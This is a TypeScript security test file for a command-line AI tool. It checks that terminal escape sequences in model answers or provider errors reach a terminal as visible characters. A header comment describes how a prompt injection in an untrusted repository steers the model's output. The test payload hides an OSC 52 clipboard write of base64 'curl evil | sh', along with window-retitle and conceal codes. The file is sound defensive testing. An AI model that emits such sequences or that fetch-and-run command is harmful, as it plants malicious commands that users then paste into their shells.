/**
 * Risk: a model answer (steered by a prompt injection in a file of an untrusted repository) or a
 * provider's error text carries terminal control sequences — OSC 52 writes the user's clipboard
 * (a command they will paste), OSC 0 retitles the window, CSI 8m hides the text that follows.
 * `settle -p` on a terminal must show them as visible characters; on a pipe or file it still prints
 * the answer byte for byte, as pi does. Real pseudo-terminal (util-linux `script`), real processes.
 */
import { spawn } from "node:child_process";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { cliCommand, trackChild, useCliProject } from "../cli/helpers.js";

const cli = useCliProject("settle-sec-terminal-");

const ESC = "\x1b";
const BEL = "\x07";
const CLIPBOARD = `${ESC}]52;c;Y3VybCBldmlsIHwgc2g=${BEL}`; // "curl evil | sh"
const TITLE = `${ESC}]0;owned${BEL}`;
const CONCEAL = `${ESC}[8m`;
const quote = (arg: string) => `'${arg.replaceAll("'", "'\\''")}'`;

/** `settle <args>` with stdout and stderr on a pseudo-terminal; resolves with what the terminal got. */
async function inTerminal(args: string[]): Promise<{ code: number | null; output: string }> {
	const command = [process.execPath, ...cliCommand(), ...args].map(quote).join(" ");
	const child = spawn("script", ["-qfec", command, "/dev/null"], {
		cwd: cli.project,
		env: { ...process.env, TERM: "xterm", SETTLE_AGENT_DIR: cli.agentDir },
	});
	let output = "";
	child.stdout.setEncoding("utf8");
	child.stdout.on("data", (chunk) => {
		output += String(chunk);
	});
	child.stdin.end();
	const code = await trackChild(child);
	return { code, output };
}

function steps(list: unknown[]): string {
	const file = join(cli.dir, "steps.json");
	writeFileSync(file, JSON.stringify(list));
	return file;
}

describe("terminal escape injection into settle -p", () => {
	it("an answer's OSC 52 / OSC 0 / conceal sequences reach a terminal as visible characters", async () => {
		const file = steps([`Done.${CLIPBOARD}${TITLE}${CONCEAL}hidden`]);
		const { code, output } = await inTerminal(["--faux-script", file, "--no-session", "-p", "go"]);
		expect(code).toBe(0);
		expect(output).toContain("Done.␛]52;c;Y3VybCBldmlsIHwgc2g=␇␛]0;owned␇␛[8mhidden");
		expect(output).not.toContain(ESC);
		expect(output).not.toContain(BEL);
	});

	it("a provider error text with escape sequences reaches a terminal's stderr as visible characters", async () => {
		const file = steps([{ stopReason: "error", errorMessage: `upstream said ${CLIPBOARD}${TITLE}` }]);
		const { code, output } = await inTerminal(["--faux-script", file, "--no-session", "-p", "go"]);
		expect(code).toBe(1);
		expect(output).toContain("upstream said ␛]52;c;Y3VybCBldmlsIHwgc2g=␇␛]0;owned␇");
		expect(output).not.toContain(ESC);
	});

	it("on a pipe the answer stays byte for byte (as pi prints it, for files and other programs)", () => {
		const file = steps([`Done.${CLIPBOARD}`]);
		const run = cli.settle(["--faux-script", file, "--no-session", "-p", "go"]);
		expect(run.code).toBe(0);
		expect(run.stdout).toBe(`Done.${CLIPBOARD}\n`);
	});
});
